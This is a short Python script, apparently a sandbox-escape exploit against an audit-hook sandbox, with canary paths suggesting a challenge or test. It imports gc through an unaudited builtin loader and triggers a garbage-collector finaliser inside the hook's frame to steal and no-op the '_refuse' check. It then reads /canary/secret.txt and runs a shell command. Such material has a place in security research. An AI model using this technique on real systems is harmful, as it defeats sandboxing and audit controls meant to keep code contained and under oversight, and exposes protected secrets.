# ALL: (gc via _imp.create_builtin, set_threshold(1) is unaudited) cyclic garbage with __del__; the cyclic GC fires on allocation *inside the hook's Python code*, so __del__ runs with the hook frame on the stack -> take _refuse and no-op it
import sys, codecs
gc = sys.modules['_imp'].create_builtin(type(sys.__spec__)('gc', sys.modules['_imp'].__spec__.loader, origin='built-in'))
got = {}
class G:
    def __init__(self): self.me = self
    def __del__(self):
        if got: return
        f = sys._getframe(1)
        while f is not None:
            if f.f_code.co_name == 'hook' and f.f_code.co_filename.endswith('launcher.py'):
                got['_refuse'] = f.f_locals['_refuse']; return
            f = f.f_back
n = 0
for t in list(range(1, 400)) * 3:
    if got: break
    n += 1
    gc.collect()
    for _ in range(20): G()
    gc.set_threshold(t)
    try: codecs.open('/canary/secret.txt').close()
    except PermissionError: pass
    gc.set_threshold(100000)
gc.set_threshold(700)
print('tries', n, bool(got))
def nop(*a, **k): return None
got['_refuse'].__code__ = nop.__code__
print(open('/canary/secret.txt').read())
open('/canary/out/via_gc', 'w').close()
import os
sys.stdout.flush(); os.system('/canary/bin/reveal')
